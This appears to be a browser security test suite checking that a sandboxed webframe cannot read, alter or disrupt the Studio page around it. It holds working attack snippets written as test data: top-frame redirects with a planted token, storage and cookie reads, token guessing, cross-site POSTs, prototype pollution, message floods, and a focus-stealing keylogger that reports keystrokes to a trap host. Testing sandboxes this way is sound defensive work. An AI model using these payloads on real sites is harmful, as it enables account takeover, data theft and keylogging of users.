import { beforeAll, describe, expect, it } from 'vitest';

import { attackStudio, type AttackedStudio } from '../support/browser/attacked-studio.js';
import { script } from '../support/scripts.js';
import { openService, type TestService } from '../support/service.js';
import { sampleCases } from '../support/sizes.js';
import { getBlock } from '../support/studio-page.js';

interface Attack {
    code: string;
    reports?: RegExp;
    also?: (studio: AttackedStudio) => Promise<unknown>;
}

const BLOCKED = /SecurityError|NotAllowedError|TypeError|denied|blocked|undefined/i;

const post = (what: string) => `parent.postMessage(${what}, '*');`;
const action = (fields: string) => post(`{ action: { ${fields} } }`);
const stillActs = async ({ page }: AttackedStudio) => {
    await getBlock(page).getByRole('button', { name: 'Press' }).click();
    await getBlock(page).getByText('Pressed press').waitFor();
};
const asksFor = (url: string, options = '{}') =>
    `const answer = await fetch('${url}', ${options}); return answer.status + (await answer.text()).slice(0, 20);`;

function attacksOf(own: string, trap: string, space: string): Record<string, Attack> {
    const control = `${own}/_svc-int/workspace`;
    return {
        'leading the page elsewhere': { code: `top.location = '${trap}/gone';`, reports: BLOCKED },
        'writing into its address': { code: `top.location.hash = '#token=stolen';`, reports: BLOCKED },
        'going back in its history': { code: `for (let at = 0; at < 5; at++) history.go(-1);` },
        'opening windows': { code: `return String(window.open('${trap}/popup'));`, reports: /^null$/ },
        'opening dialogs': { code: `alert('a'); confirm('b'); prompt('c'); print();` },
        'downloading a file': {
            code: `const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x'; a.click();`,
        },
        'reading its document': { code: `return top.document.body.innerHTML;`, reports: BLOCKED },
        'reading its storage': { code: `return JSON.stringify(parent.localStorage);`, reports: BLOCKED },
        'reading its own storage and database': {
            code: `return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, await indexedDB.databases(), document.cookie]);`,
            reports: /^\[\{\},\{\},\[\],""\]$/,
        },
        'asking where it comes from': {
            code: `return JSON.stringify([document.referrer, String(opener), [...location.ancestorOrigins ?? []].join()]);`,
            reports: new RegExp(`^\\["","null","${own}"\\]$`),
        },
        'reading the workspace without a token': { code: asksFor(control), reports: BLOCKED },
        'guessing a token': {
            code: asksFor(control, `{ headers: { authorization: 'Bearer guessed' } }`),
            reports: BLOCKED,
        },
        'changing the workspace by a request that asks nobody': {
            code: `await fetch('${own}/v1/spaces/${space}', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"title":"Stolen"}' });
                await fetch('${own}/_svc-int/content', { method: 'POST', mode: 'no-cors', body: '{"space":"${space}","edits":[]}' });`,
        },
        'sending a form to the service': {
            code: `document.body.innerHTML = '<form method=post action="${own}/_svc-int/content" enctype="text/plain"><input name="{}"></form>'; document.forms[0].submit();`,
        },
        'going to the Studio itself': { code: `location = '${own}/#token=stolen';` },
        'framing the Studio': {
            code: `const frame = document.createElement('iframe'); frame.src = '${own}/'; document.body.append(frame);
                await new Promise((done) => (frame.onload = done)); return String(frame.contentDocument);`,
            reports: /^null$/,
        },
        'calling itself as the page calls something': {
            code: `name = 'hacked'; name = 'location'; top.hacked = 1;`,
            reports: BLOCKED,
        },
        'opening modals and tabs by itself': {
            code: `${action(`action: '@ui.modal.open', componentId: 'modal'`)} ${action(`action: '@ui.url.open', url: '${trap}/opened'`)}`,
            also: async ({ page, caught }) => {
                await page.getByText('only when something is pressed in it').first().waitFor();
                expect([
                    await page.getByRole('dialog').count(),
                    caught.filter((path) => path === '/opened').length,
                ]).toEqual([0, 0]);
            },
        },
        'actions that no JSON holds': {
            code: [
                action(
                    `action: '@editor.node.updateProps', props: { large: 1n, constructor: undefined, map: new Map([[1, 1n]]) }`,
                ),
                `const round = {}; round.round = round; ${action(`action: 'go', value: round`)}`,
                action(`action: 'go', value: 1n, date: new Date(NaN)`),
                action(`action: '@editor.node.updateProps', props: { round }`),
            ].join('\n'),
            also: stillActs,
        },
        'names that every object has': {
            code: [
                action(`action: '__proto__', polluted: 1`),
                post(
                    `JSON.parse('{"__proto__":{"action":{"action":"x"}},"action":{"action":"y","__proto__":{"polluted":1}}}')`,
                ),
                action(`action: '@editor.node.updateProps', props: JSON.parse('{"__proto__":{"polluted":1}}')`),
            ].join('\n'),
            also: stillActs,
        },
        'actions as large as they get': {
            code: `for (let at = 0; at < 20; at++) ${action(`action: 'go', text: 'x'.repeat(5e6)`)}`,
            also: stillActs,
        },
        'actions without an end': {
            code: `setInterval(() => { for (let at = 0; at < 1000; at++) ${action(`action: 'again'`)} }, 5);`,
            also: ({ page }) => page.getByText('This webframe was stopped').waitFor(),
        },
        'asking for the height of the sky': {
            code: `setInterval(() => { ${action(`action: '@webframe.resize', size: { height: 1e9 * Math.random() }`)} }, 5);`,
            also: async ({ page }) => {
                const height = await page.locator('iframe').evaluate((frame) => frame.clientHeight);
                expect(height).toBeLessThan(20_000);
            },
        },
        'speaking from a page within it': {
            code: `const frame = document.createElement('iframe');
                frame.srcdoc = "<script>top.postMessage({ action: { action: 'forged' } }, '*')</scr" + "ipt>";
                document.body.append(frame); await new Promise((done) => (frame.onload = done));`,
            also: async ({ page }) => expect(await getBlock(page).getByText('Pressed forged').count()).toBe(0),
        },
        'taking the focus while somebody types': {
            code: `setInterval(() => { focus(); document.body.firstElementChild?.focus(); }, 20); document.body.innerHTML = '<input autofocus>';
                document.body.firstElementChild.oninput = ({ target }) => report('heard ' + target.value);`,
            also: async ({ page, caught }) => {
                const field = page.getByRole('searchbox', { name: 'Find events' });
                const stopped = page.getByText('This webframe was stopped: it took the focus').waitFor();
                await field.click();
                await field.press('a');
                await stopped;
                expect(await page.locator('iframe').count()).toBe(0);
                await field.fill('');
                await page.keyboard.type('what nobody else reads');
                expect(await field.inputValue()).toBe('what nobody else reads');
                // The frame may get the first letter: browsers grant focus without a prompt.
                expect(caught.filter((path) => path.includes('heard') && !path.endsWith('heard%20a'))).toEqual([]);
                await field.fill('');
            },
        },
        'asking for what browsers ask people about': {
            code: `const results = await Promise.allSettled([
                    navigator.clipboard.readText(), document.body.requestFullscreen(),
                ]);
                return results.map(({ status }) => status).join();`,
            reports: /^rejected(,rejected)*$/,
        },
    };
}

let service: TestService;
let studio: AttackedStudio;
let attacks: Record<string, Attack>;
let space: string;

const NAMES = Object.keys(attacksOf('', '', ''));

beforeAll(async () => {
    service = await openService();
    studio = await attackStudio(service);
    const place = await service.develop('first', script(`return new Response('OK');`));
    space = place.space;
    attacks = attacksOf(new URL(service.url).origin, studio.trap, space);
    const codes = Object.values(attacks).map(({ code }) => code);
    await service.develop(
        'evil',
        script(`
            const codes = ${JSON.stringify(codes).replaceAll('</', '<\\/')};
            if (event.type === 'fetch') {
                const at = Number(new URL(event.request.url).pathname.split('/').at(-1));
                const page = "<body>A frame<script>const report = (what) => fetch('${studio.trap}/report/" + at + "/' + encodeURIComponent(what), { mode: 'no-cors', keepalive: true });" +
                    "(async () => {" + codes[at] + "\\n})().then((what) => report(what ?? 'nothing'), (error) => report(String(error)));" + "</scr" + "ipt>";
                return new Response(page, { headers: { 'content-type': 'text/html' } });
            }
            if (event.type !== 'ui_render') return new Response('OK');
            const url = environment.integration.urls.publicEndpoint + '/' + event.componentId;
            const children = [
                { type: 'button', label: 'Press', onPress: { action: 'press' } },
                { type: 'markdown', content: 'Pressed ' + (event.action?.action ?? 'nothing') },
                { type: 'webframe', source: { url } },
            ];
            return Response.json({ type: 'element', state: {}, props: event.props, element: { type: 'block', children } });`),
        { title: 'Evil', blocks: NAMES.map((_, at) => ({ id: String(at), title: `Attack ${at}` })) },
    );
    await studio.page.getByRole('button', { name: 'Attack 0', exact: true }).waitFor();
    return async () => {
        await studio.close();
        await service.dispose();
    };
});

describe('A webframe neither reads nor changes the Studio around it, and leaves it usable, by', () => {
    it.each(sampleCases(NAMES))('%s', async (name) => {
        const at = NAMES.indexOf(name);
        studio.caught.length = 0;
        await studio.show(`#/evil/block/${at}`);
        await studio.page.getByRole('heading', { name: `Attack ${at}`, level: 1 }).waitFor();
        const { reports = /^nothing$/, also } = attacks[name] ?? {};
        const reported = () =>
            studio.caught
                .filter((path) => path.startsWith(`/report/${at}/`))
                .map((path) => decodeURIComponent(path.split('/')[3] ?? ''));
        await expect.poll(reported).toEqual([expect.stringMatching(reports)]);
        await also?.(studio);
        // The last report of the previous frame may arrive late.
        expect(studio.caught.filter((path) => !path.startsWith('/report/'))).toEqual([]);
        await studio.expectUnharmed();
        await studio.page.getByRole('heading', { name: `Attack ${at}`, level: 1 }).waitFor();
        expect((await service.client.spaces.getSpaceById(space)).data.title).not.toBe('Stolen');
    });
});
